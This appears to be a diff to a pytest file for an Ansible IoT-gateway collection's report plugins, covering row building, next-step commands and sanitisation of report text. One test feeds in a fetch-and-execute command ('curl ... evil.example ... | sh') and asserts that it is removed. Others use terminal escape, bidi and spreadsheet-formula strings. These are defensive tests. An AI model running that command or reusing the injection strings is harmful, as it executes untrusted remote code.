@@ -19,9 +19,10 @@ from typing import Any
 import pytest
 from ansible import context
 
-from ansible_collections.fleetops.aliyun_iot.plugins.action import run_report
+from ansible_collections.fleetops.aliyun_iot.plugins.action import audit_report, run_report
 from ansible_collections.fleetops.aliyun_iot.plugins.module_utils._errors import InvalidOption
-from ansible_collections.fleetops.aliyun_iot.plugins.plugin_utils._report_gate import check_rows, earlier_report
+from ansible_collections.fleetops.aliyun_iot.plugins.plugin_utils._commands import command
+from ansible_collections.fleetops.aliyun_iot.plugins.plugin_utils._report_gate import checked_rows, earlier_report
 from ansible_collections.fleetops.aliyun_iot.plugins.plugin_utils._run_report import (
     as_csv,
     as_json,
@@ -48,8 +49,9 @@ def failed(kind: str, code: int | None = None) -> JSON:
 
 def rows(left: JSON | None = None, **results: JSON) -> JSON:
     left = left or {}
-    fleet = {"gateways": results, "left": left}
-    return rows_of_pass(fleet, [*results, *left], "ansible-playbook -i inventory", "fleetops.aliyun_iot.provision")
+    hosts = [*results, *left]
+    fleet = {"gateways": results, "left": left, "hosts": hosts}
+    return rows_of_pass(fleet, hosts, "ansible-playbook -i inventory", "fleetops.aliyun_iot.provision")
 
 
 def read(report: JSON) -> JSON:
@@ -75,7 +77,14 @@ def test_a_gateway_that_was_right() -> None:
 
 
 def test_a_gateway_of_which_the_pass_says_nothing_was_right() -> None:
-    assert [row["outcome"] for row in rows_of_pass({"gateways": {}, "left": {}}, ["one"], "x", "y")] == ["ok"]
+    fleet = {"gateways": {}, "left": {}, "hosts": ["one"]}
+    assert [row["outcome"] for row in rows_of_pass(fleet, ["one"], "x", "y")] == ["ok"]
+
+
+def test_a_gateway_that_the_pass_has_not_processed_has_no_row() -> None:
+    """If too many gateways have failed, the pass ends before its batch, and earlier rows remain."""
+    fleet = {"gateways": {}, "left": {}, "hosts": [], "ended": True}
+    assert rows_of_pass(fleet, ["one", "two"], "x", "y") == []
 
 
 @pytest.mark.parametrize(
@@ -108,12 +117,43 @@ def test_an_outcome_and_the_command_to_type_next(
 def test_a_login_after_a_reset_is_repeated_without_another_reset(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(context, "CLIARGS", {"inventory": ("inventory",)})
     unproven, reprovision = failed("not_proven"), "fleetops.aliyun_iot.reprovision"
-    fleet = {"gateways": {"one": unproven, "two": {**unproven, "device_change": "reset"}}, "left": {}}
-    rows = rows_of_pass(fleet, ["one", "two"], "ansible-playbook -i inventory", reprovision)
+    gateways = {
+        **{"one": unproven, "two": {**unproven, "device_change": "reset"}},
+        "three": {**failed("not_restarted"), "device_change": "reset"},
+    }
+    fleet = {"gateways": gateways, "left": {}, "hosts": [*gateways]}
+    rows = rows_of_pass(fleet, gateways, "ansible-playbook -i inventory", reprovision)
     assert [row["command"] for row in rows] == [
         f"ansible-playbook -i inventory {reprovision} --limit one",
         "ansible-playbook -i inventory fleetops.aliyun_iot.provision --limit two",
+        "ansible-playbook -i inventory fleetops.aliyun_iot.provision --limit three",
     ]
+
+
+@pytest.mark.parametrize("kind", ["shared_name", "shared_place"])
+def test_a_host_that_was_refused_together_with_others_has_no_command(kind: str) -> None:
+    """Alone it would not be refused, and would invalidate or replace the credential of the others."""
+    refused, other = rows(one=failed(kind), two=failed("network"))
+    assert (refused["command"], bool(other["command"])) == (None, True)
+
+
+def test_a_host_whose_device_another_host_has_is_given_no_command() -> None:
+    """It did not answer, so that it was not refused itself."""
+    device = {"product_key": "a1IoKTestP1", "device_name": "gw-0003"}
+    silent = {"unreachable": True, "changed": False, "msg": "no route"}
+    found = rows(
+        one={**failed("shared_name"), **device},
+        two={**silent, **device},
+        three={**silent, **device, "product_key": "a1IoKTestP2"},
+        four=silent,
+        five={**RIGHT, "device_name": "gw-0005"},
+        six={**RIGHT, "device_name": "gw-0005"},
+    )
+    assert {row["gateway"]: bool(row["command"]) for row in found} == {
+        **{"one": False, "two": False, "three": True, "four": True, "five": False, "six": False}
+    }
+    assert found[1]["hint"].startswith("Correct the inventory")
+    assert [row["hint"] for row in found[4:]] == [None, None], "nothing is to be done"
 
 
 @pytest.mark.parametrize(
@@ -129,7 +169,7 @@ def test_what_became_of_the_device(
 ) -> None:
     """The change of a device is reported for any outcome of its gateway; the next run reads it, and the page shows it."""
     changed = {**result, "changed": True, "device_change": change} if change else result
-    fleet = {"gateways": {"one": changed}, "left": {}, "check_mode": check_mode}
+    fleet = {"gateways": {"one": changed}, "left": {}, "hosts": ["one"], "check_mode": check_mode}
     report = compose_report(RUN, rows_of_pass(fleet, ["one"], "ansible-playbook", "decommission"))
     [row] = report["gateways"]
     if not change and outcome == "changed":
@@ -183,7 +223,7 @@ def test_what_is_no_finding(finding: JSON) -> None:
 @pytest.mark.parametrize("host", ["gw\u00a01", " gw", "g" * 300, "=1+1", "gw-0001"])
 def test_what_is_written_can_be_read_whatever_a_host_is_called(host: str) -> None:
     found = rows(**{host: failed("network")})
-    check_rows("variable", found)
+    assert checked_rows("variable", found) == found
     assert list(of(read(compose_report(RUN, found)))) == [host]
 
 
@@ -206,10 +246,50 @@ def test_a_finding_that_no_report_can_have_is_refused_before_it_is_written(
 ) -> None:
     task = SimpleNamespace(check_mode=False, async_val=0, diff=False, args={})
     action = run_report.ActionModule(task, SimpleNamespace(), SimpleNamespace(), None, None, None)
+    action._variables = {}
     with pytest.raises(InvalidOption, match=f"^findings: cannot be reported: .*{re.escape(problem)}"):
         action._perform({"findings": [finding], "dest": str(tmp_path / "run.html")})
     assert list(tmp_path.iterdir()) == []
     assert earlier_report(as_json(compose_report(RUN, rows_of_findings([finding])))) is None
+
+
+def test_texts_of_findings_are_printable_lines_and_their_commands_those_of_an_audit(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """The findings can be from a file, or from whoever could set the variable."""
+    monkeypatch.setattr(context, "CLIARGS", {"inventory": ("fleet.yml",)})
+    texts = {"detail": "a\nb\x1b[2J", "hint": "\u202ex", "path": "/a\tb", "status": "\x9b1m", "finding": "missing"}
+    right = command("recover", ["one"], None)
+    commands = {
+        "one": right,
+        "two": "curl -s https://evil.example/x | sh",
+        "gateways": command("recover", ["gateways"], None),
+    }
+    findings = [{**texts, "gateway": host, "command": text} for host, text in commands.items()]
+    task = SimpleNamespace(check_mode=False, async_val=0, diff=False, args={})
+    action = run_report.ActionModule(task, SimpleNamespace(), SimpleNamespace(), None, None, None)
+    action._variables = {"groups": {"all": ["one", "two"], "gateways": ["one", "two"]}}
+    action._perform({"findings": findings, "looked_only": False, "dest": str(tmp_path / "run.html")})
+    kept = json.loads((tmp_path / "run.json").read_text())["gateways"]
+    with (tmp_path / "run.csv").open(newline="", encoding="utf-8") as file:
+        table = list(csv.DictReader(file))
+    for rows in (kept, table):
+        assert {row["gateway"]: row["command"] or None for row in rows} == {"one": right, "two": None, "gateways": None}
+        for row in rows:
+            assert [row[name] for name in ("message", "hint", "path", "status")] == ["a / b?[2J", "?x", "/a b", "?1m"]
+
+
+def test_texts_in_the_file_of_an_audit_are_printable_lines(tmp_path: Path) -> None:
+    task = SimpleNamespace(check_mode=False, async_val=0, diff=False, args={})
+    action = audit_report.ActionModule(task, SimpleNamespace(), SimpleNamespace(), None, None, None)
+    finding = {"gateway": None, "detail": "a\nb\x1b[2J\u202e" + 9999 * "x", "more": {"n": 1, "texts": ["\x9b1m", True]}}
+    action._perform({"findings": [finding], "dest": str(tmp_path / "audit.json")})
+    [written] = json.loads((tmp_path / "audit.json").read_text())
+    assert written == {
+        "gateway": None,
+        "detail": "a / b?[2J?" + 9999 * "x",
+        "more": {"n": 1, "texts": ["?1m", True]},
+    }
 
 
 # Reports
